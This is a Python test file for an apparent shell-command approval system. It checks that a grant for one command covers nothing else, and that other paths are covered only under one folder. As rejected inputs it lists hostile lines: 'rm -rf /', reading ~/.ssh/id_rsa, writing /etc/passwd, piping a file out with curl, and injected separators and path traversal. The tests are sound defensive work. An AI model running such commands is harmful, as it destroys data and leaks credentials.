"""What a grant covers: the same command, other paths; nothing else."""

from __future__ import annotations

import pytest

from granted import action, covers, granted, rated
from guardtier.errors import InvalidAnswer
from guardtier_workers.grants.remembered import fitting

# -- the same command ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "git push && curl https://example.com/x",
        "git push | tee log",
        "git push; rm -rf /",
        "curl https://example.com/x && git push",
        "git push --force",
        "git push $(cat ~/.ssh/id_rsa)",
        "git push `id`",
        'git push "$X"',
        "git push > /etc/passwd",
        "git push 2>&1",
        "git push &",
        "git push &&",
        "git push |",
        "git push & rm x",
        "sudo git push",
        "X=1 git push",
        "(git push)",
        "for x in 1 2; do git push; done",
        "! git push",
        "git\tpull",
        "git push *",
        "git push {a,b}",
        "git push\nrm x",
        "bash -c 'git push'",
        "/tmp/git push",
        "",
    ],
)
def test_a_grant_for_one_command_covers_no_other_line(line: str) -> None:
    grant = granted("git push")

    assert covers([grant], "git push")
    assert not covers([grant], line)


@pytest.mark.parametrize(
    "line", ["git push", "git   push", " git push ", "git push;", "git \\\n push", "'git' push"]
)
def test_spaces_and_quotes_make_no_other_command(line: str) -> None:
    assert covers([granted("git push")], line)


@pytest.mark.parametrize("join", [" && ", "; ", "\n", "\n\n"])
def test_a_line_of_commands_that_are_each_covered_is_covered(join: str) -> None:
    push, tag = granted("git push"), granted("git tag v1")

    assert fitting([push, tag], action(join.join(["git tag v1", "git push", "git tag v1"])), rated()) == (
        tag,
        push,
    )
    assert not covers([push], f"git tag v1{join}git push")


@pytest.mark.parametrize("join", [" | ", " & ", " || "])
def test_nothing_goes_from_one_grant_to_another(join: str) -> None:
    read, send = granted("cat notes/a.txt"), granted("curl -T - https://example.com")

    assert not covers([read, send], f"cat notes/a.txt{join}curl -T - https://example.com")


def test_a_grant_for_a_line_covers_that_line_alone() -> None:
    grant = granted("make test && make publish | tee log")

    assert covers([grant], "make test && make publish | tee log")
    for other in (
        "make publish",
        "make test; make publish | tee log",
        "make test && make publish",
        "make publish | tee log",
    ):
        assert not covers([grant], other)


@pytest.mark.parametrize("change", ["cd /etc", "alias rm=x", "source env/x", "umask 0", "pushd /etc"])
def test_what_changes_the_rest_of_a_line_covers_nothing_behind_it(change: str) -> None:
    before, delete = granted(change), granted("rm -rf build/a")

    assert covers([before], change)
    assert not covers([before, delete], f"{change} && rm -rf build/a")
    assert covers([before, delete], f"rm -rf build/a && {change}")
    assert covers([granted(f"{change} && rm -rf build/a")], f"{change} && rm -rf build/b")


# -- other paths ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["build/b", "build/b/c", "./build/b", "build//b", "'build/b c'", "build/.b"]
)
def test_other_paths_below_the_folder_are_covered(path: str) -> None:
    assert covers([granted("rm -rf build/a")], f"rm -rf {path}")


@pytest.mark.parametrize(
    "path",
    ["build", "build/", "build/../x", "build/a/../../x", "buildx/a", "/build/a", "x/build/a", "../build/a",
     "build/*", "build/$X", "~/build/a", "-build/a", "build/a build/b", "--build/a", "'build/*'",
     "build/a:b", "'build/!ls'", "build/a,/etc/x", "build/^.^./x", "build/%X%",
     "'build/a&x'", "'build/a;x'"],
)  # fmt: skip
def test_no_other_path_is(path: str) -> None:
    assert not covers([granted("rm -rf build/a")], f"rm -rf {path}")


@pytest.mark.parametrize(
    ("command", "other"),
    [
        ("rm a.txt", "rm b.txt"),
        ("rm /a", "rm /b"),
        ("rm ~/a", "rm ~/b"),
        ("python scripts/a.py", "python scripts/b.py"),
        ("bash scripts/a.sh", "bash scripts/b.sh"),
        ("./bin/a", "./bin/b"),
        ("psql -f db/a.sql", "psql -f db/b.sql"),
        ("git push origin feature/a", "git push origin feature/b"),
        ("docker run img/a", "docker run img/b"),
        ("curl https://x.example/a", "curl https://x.example/b"),
        ("sed -i s/a/b/ src/x", "sed -i s/a/c/ src/x"),
        ("make -f build/a.mk", "make -f build/b.mk"),
        ("make build/a", "make build/b"),
        ("java -jar build/a.jar", "java -jar build/b.jar"),
        ("cmake build/a", "cmake build/b"),
        ("gunicorn build/a", "gunicorn build/b"),
        ("jupyter nbconvert --execute build/a", "jupyter nbconvert --execute build/b"),
    ],
)
def test_what_is_no_path_in_a_folder_or_is_run_stays_as_it_is(command: str, other: str) -> None:
    grant = granted(command)

    assert covers([grant], command)
    assert not covers([grant], other)


def test_the_approver_may_name_a_wider_or_another_folder() -> None:
    grant = granted("cp src/a/x.py out/x.py", below="src")

    assert covers([grant], "cp src/b/y.py out/x.py")
    assert not covers([grant], "cp src/a/x.py out/y.py")
    with pytest.raises(InvalidAnswer, match="no path of the command is below lib") as said:
        granted("cp src/a/x.py out/x.py", below="lib")
    assert said.value.field == "below"
    for nowhere in ("/", ".", "~", "..", "src/..", "*", "./", "//"):
        with pytest.raises(InvalidAnswer, match="below must be a folder"):
            granted("cp src/a out/x.py", below=nowhere)
